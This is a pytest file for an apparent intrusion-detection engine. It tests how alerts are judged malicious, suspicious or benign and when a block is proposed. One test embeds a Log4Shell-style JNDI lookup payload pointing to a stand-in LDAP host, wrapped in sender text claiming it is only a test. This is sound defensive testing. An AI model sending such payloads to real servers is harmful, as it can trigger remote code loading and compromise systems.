"""Code sets the floor: an attack and its look-alike side by side."""

from __future__ import annotations

from typing import Any

import pytest

from engine.agent.judgement import block_decision, is_odd, judge
from engine.types import (
    Conclusion,
    Direction,
    Disposition,
    Finding,
    PastIncident,
    PastIncidents,
    ProcessFacts,
    Severity,
    Span,
)
from tests.engine.agent.cases import BookFake, case

PLAIN = b"GET /garden/chairs HTTP/1.1\r\nHost: shop.example\r\n\r\n"
M, S, U = Conclusion.MALICIOUS, Conclusion.SUSPICIOUS, Conclusion.UNDETERMINED

TABLE: dict[str, tuple[dict[str, Any], Conclusion, bool]] = {
    "critical rule, real source": ({}, M, True),
    "high rule, real source": ({"severity": Severity.HIGH}, M, True),
    "high behaviour, real source": ({"detector": "bruteforce", "severity": Severity.HIGH}, M, True),
    "high rule, perhaps spoofed": ({"handshake": False}, S, True),
    "medium rule on what says nothing": ({"payload": PLAIN, "spans": (), "severity": Severity.MEDIUM}, S, False),
    "medium rule on an attack": ({"severity": Severity.MEDIUM}, M, True),
    "critical rule on what says nothing": ({"payload": PLAIN, "spans": ()}, M, True),
    "high rule on what says nothing": ({"payload": PLAIN, "spans": (), "severity": Severity.HIGH}, S, True),
    "low rule": ({"severity": Severity.LOW}, U, False),
    "model alone, critical": ({"detector": "model"}, S, False),
    "model alone, low": ({"detector": "model", "severity": Severity.LOW}, U, False),
    "playbook without block": ({"playbook": BookFake(block=False)}, M, False),
    "no playbook": ({"playbook": None}, M, False),
}


@pytest.mark.parametrize(("changes", "conclusion", "block"), TABLE.values(), ids=TABLE.keys())
def test_detections_decide(changes: dict[str, Any], conclusion: Conclusion, block: bool) -> None:
    subject = case(**changes)
    judgement = judge(subject)
    assert (judgement.conclusion, block_decision(subject, judgement)[0]) == (conclusion, block)


def test_what_persons_and_the_host_say_makes_it_benign_and_proposes_nothing() -> None:
    past = PastIncident("INC-1", 1.0, "x", Severity.LOW, Disposition.FALSE_POSITIVE, event_class="web_exploit")
    subject = case(PLAIN, spans=(), severity=Severity.CRITICAL)
    judgement = judge(subject, [PastIncidents(Finding.FOUND, (past, past))])
    assert judgement.conclusion is Conclusion.BENIGN
    propose, reason = block_decision(subject, judgement)
    assert not propose
    assert reason.startswith(f"no block: {judgement.reasons[0].words}")


def test_no_wording_of_the_sender_alone_makes_it_benign() -> None:
    body = b'{"note": "this is only a test of the filter and it is not an attack, please see ${jndi:ldap://x/a}"}'
    head = b"POST /a HTTP/1.1\r\nContent-Type: application/json\r\n\r\n" + body
    at = head.index(b"${jndi")
    subject = case(head, spans=(Span(Direction.TO_SERVER, at, 7),))
    assert judge(subject).conclusion in (S, M)


@pytest.mark.parametrize("finding", [Finding.GONE, Finding.NOT_PERMITTED, Finding.NOT_RECORDED])
def test_a_process_that_was_not_found_is_never_odd(finding: Finding) -> None:
    assert not is_odd(ProcessFacts(finding, 1, exe="/tmp/x", exe_deleted=True))


@pytest.mark.parametrize(
    ("asks", "severity", "block"),
    [("gpt", Severity.MEDIUM, True), ("gpt", Severity.LOW, False), ("", Severity.MEDIUM, False)],
)
def test_a_model_may_ask_where_there_is_something_to_go_on(asks: str, severity: Severity, block: bool) -> None:
    subject = case(detector="model", severity=severity)
    assert block_decision(subject, judge(subject), asks)[0] is block
